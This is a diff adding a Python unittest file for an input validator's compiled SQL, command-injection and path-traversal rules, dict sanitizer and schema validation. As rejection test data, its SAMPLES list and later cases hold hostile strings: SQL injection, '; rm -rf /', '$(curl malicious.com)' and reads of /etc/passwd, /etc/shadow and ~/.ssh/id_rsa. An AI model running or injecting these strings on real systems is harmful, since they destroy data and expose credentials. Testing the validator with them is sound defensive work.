@@ -0,0 +1,145 @@
+#!/usr/bin/env python3
+"""
+INPUT VALIDATOR TESTS
+Tests the compiled rule tables against per-pattern checks, the iterative
+sanitize_dict walk, and schema-driven validate_payload
+
+Run: python3 tests/test_input_validator.py
+"""
+
+import sys
+from pathlib import Path
+
+# Add parent directory to path
+sys.path.insert(0, str(Path(__file__).parent.parent))
+
+import html
+import re
+import unittest
+
+from security.input_validator import (
+    InputValidator, compile_schema, validate_payload
+)
+
+
+SAMPLES = [
+    "Hello world", "user@example.com", "This is a normal sentence.",
+    "'; DROP TABLE users; --", "' UNION SELECT * FROM passwords--",
+    "admin' OR '1'='1", "1; DELETE FROM users", "; rm -rf /",
+    "| cat /etc/passwd", "`whoami`", "$(curl malicious.com)",
+    "../../../etc/passwd", "~/.ssh/id_rsa", "/ETC/shadow", "/proc/self",
+    "Meeting notes -- draft", "price is $5", "select a course", "bashful",
+    "Q3 roadmap (draft)", "a.b.c", "x" * 200,
+]
+
+
+def reference_violation(value):
+    """Original per-pattern loop"""
+    for label, patterns in (
+        ("SQL injection", InputValidator.SQL_INJECTION_PATTERNS),
+        ("Command injection", InputValidator.COMMAND_INJECTION_PATTERNS),
+        ("Path traversal", InputValidator.PATH_TRAVERSAL_PATTERNS),
+    ):
+        for pattern in patterns:
+            if re.search(pattern, value, re.IGNORECASE):
+                return f"{label} detected: {pattern}"
+    return None
+
+
+class TestCompiledRules(unittest.TestCase):
+    """Test compiled tables decide (and report) exactly like the pattern loops"""
+
+    def test_sanitize_string_matches_reference(self):
+        for sample in SAMPLES:
+            expected = reference_violation(sample)
+            try:
+                result = InputValidator.sanitize_string(sample)
+                self.assertIsNone(expected, sample)
+                self.assertEqual(result, html.escape(sample))
+            except ValueError as e:
+                self.assertEqual(str(e), expected, sample)
+
+    def test_file_path_rules_are_case_sensitive(self):
+        with self.assertRaises(ValueError):
+            InputValidator.sanitize_file_path("/etc/passwd")
+        self.assertEqual(InputValidator.sanitize_file_path("/ETC/report.txt"), "/ETC/report.txt")
+
+        base = str(Path(__file__).parent)
+        self.assertEqual(InputValidator.sanitize_file_path(f"{base}/a.txt", [base]), f"{base}/a.txt")
+        with self.assertRaises(ValueError):
+            InputValidator.sanitize_file_path("/tmp/a.txt", [base])
+
+
+class TestSanitizeDict(unittest.TestCase):
+    """Test the iterative walk keeps the recursive behaviour"""
+
+    def test_nested_output_and_order(self):
+        data = {'b': 'x<y', 'a': {'z': {'q': 1.5, 'r': None}, 'y': ['<i>', 2]}, 'c': True}
+        result = InputValidator.sanitize_dict(data)
+        self.assertEqual(result, {
+            'b': 'x&lt;y', 'a': {'z': {'q': 1.5, 'r': None}, 'y': ['&lt;i&gt;', 2]}, 'c': True
+        })
+        self.assertEqual(list(result), ['b', 'a', 'c'])
+        self.assertEqual(list(result['a']), ['z', 'y'])
+
+    def test_depth_limit_and_first_error(self):
+        deep = {'l1': {'l2': {'l3': {}}}}
+        InputValidator.sanitize_dict(deep, max_depth=3)
+        with self.assertRaises(ValueError):
+            InputValidator.sanitize_dict(deep, max_depth=2)
+
+        # Depth-first: the nested violation is reported before the later key
+        with self.assertRaisesRegex(ValueError, "Command injection"):
+            InputValidator.sanitize_dict({'a': {'b': '`id`'}, 'c': "x OR 1=1"})
+
+
+class TestValidatePayload(unittest.TestCase):
+    """Test schema-driven body validation"""
+
+    SCHEMA = compile_schema({
+        'email': {'type': 'email', 'required': True},
+        'password': {'type': 'raw', 'required': True, 'max_length': 128},
+        'userType': {'choices': ['student', 'pi'], 'default': 'student'},
+        'answer': {'type': 'text', 'max_length': 5000},
+        'profile': {'type': 'object', 'fields': {
+            'year': {'type': 'integer', 'min': 1, 'max': 6},
+            'interests': {'type': 'array', 'max_items': 3, 'items': {'max_length': 40}},
+        }},
+    })
+
+    def test_valid_body(self):
+        result = validate_payload(self.SCHEMA, {
+            'email': 'Student@UCLA.edu', 'password': 'p@ss; $(x)',
+            'answer': 'Use the <b>v2</b> API -- see notes', 'unexpected': 'dropped',
+            'profile': {'year': 2, 'interests': ['ml', 'systems']},
+        })
+        self.assertEqual(result, {
+            'email': 'student@ucla.edu', 'password': 'p@ss; $(x)', 'userType': 'student',
+            'answer': 'Use the &lt;b&gt;v2&lt;/b&gt; API -- see notes',
+            'profile': {'year': 2, 'interests': ['ml', 'systems']},
+        })
+
+    def test_errors_name_the_field(self):
+        base = {'email': 'a@ucla.edu', 'password': 'x'}
+        cases = [
+            ({'password': 'x'}, "email: required"),
+            ({**base, 'userType': 'admin'}, "userType: must be one of"),
+            ({**base, 'profile': {'year': True}}, "profile.year: expected integer"),
+            ({**base, 'profile': {'year': 9}}, "profile.year: Value must be <= 6"),
+            ({**base, 'profile': {'interests': ['ok', '; rm -rf /']}}, r"profile.interests\[1\]: Command"),
+            ({**base, 'profile': {'interests': ['a'] * 4}}, "profile.interests: too many items"),
+            ({**base, 'profile': 'x'}, "profile: expected object"),
+            ([], "payload: expected object"),
+        ]
+        for body, message in cases:
+            with self.assertRaisesRegex(ValueError, message):
+                validate_payload(self.SCHEMA, body)
+
+    def test_uncompiled_schema_accepted(self):
+        self.assertEqual(validate_payload({'n': {'type': 'number'}}, {'n': 1.5}), {'n': 1.5})
+        with self.assertRaises(ValueError):
+            compile_schema({'n': {'type': 'nonsense'}})
+
+
+if __name__ == '__main__':
+    unittest.main(verbosity=2)